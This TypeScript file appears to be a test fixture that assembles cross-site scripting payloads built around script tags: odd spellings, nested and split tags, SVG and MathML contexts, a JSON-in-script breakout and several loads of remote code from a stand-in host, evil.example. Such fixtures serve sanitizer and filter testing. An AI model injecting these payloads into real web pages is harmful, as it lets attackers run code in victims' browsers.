import { payloadsOf } from './payload.ts';

const types = [
  ...['', ' type="text/javascript"', ' type="module"', ' type="text/JavaScript"', ' language="JavaScript"'],
  ...[' type="importmap"', ' type="speculationrules"', ' defer', ' async', ' nomodule'],
];

const spellings = [
  '<SCRIPT>hit(§)</SCRIPT>',
  '<ScRiPt >hit(§)</sCrIpT >',
  '<script/x>hit(§)</script>',
  '<script\n>hit(§)</script\t>',
  '<script\f>hit(§)</script\f>',
  '<scr<script>ipt>hit(§)</scr</script>ipt>',
  '<<script>hit(§);//<</script>',
  '<script <b>hit(§)</script>',
  '<script>hit(§)',
  '<script src="https://evil.example/§/x.js"></script>~',
  '<script src="data:text/javascript,hit(§)"></script>~',
  '<script src="//evil.example/§/x.js" async></script>~',
  '<script type="module">import "https://evil.example/§/x.js"</script>~',
  '<script><!--\nhit(§)\n//--></script>~',
  '<script>/*</script>~<script>*/hit(§)</script>',
  '<script>"</script><script>hit(§)</script>"',
  '<script type="application/ld+json">{"a":"</script><img src=x onerror=hit(§)>"}</script>~',
  '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/§"]}]}</script>~',
  '<script type="importmap">{"imports":{"a":"https://evil.example/§/a.js"}}</script><script type=module>import "a"</script>',
  '<svg><script>hit(§)</script></svg>~',
  '<svg><script href="data:text/javascript,hit(§)"/></svg>~',
  '<svg><script xlink:href="data:text/javascript,hit(§)"></script></svg>~',
  '<svg><script>&#104;it(§)</script></svg>~',
  '<svg><script><![CDATA[hit(§)]]></script></svg>~',
  '<math><script>hit(§)</script></math>~',
  '<math><mtext><script>hit(§)</script></mtext></math>~',
  '<svg:script>hit(§)</svg:script>~',
  '<p>~<script>hit(§)</script></p>',
  '<table><script>hit(§)</script><tr><td>~</td></tr></table>',
  '<select><script>hit(§)</script></select>~',
  '<noscript><script>hit(§)</script></noscript>~',
  '<template><script>hit(§)</script></template>~',
  '<script type="text/vbscript">hit §</script>~',
  '<script event="onload" for="window">hit(§)</script>~',
];

/** Scripts, however they are spelt and wherever they stand. */
export const scripts = payloadsOf('script', [
  ...types.map(type => `<script${type}>hit(§)</script>~`),
  ...spellings,
]);
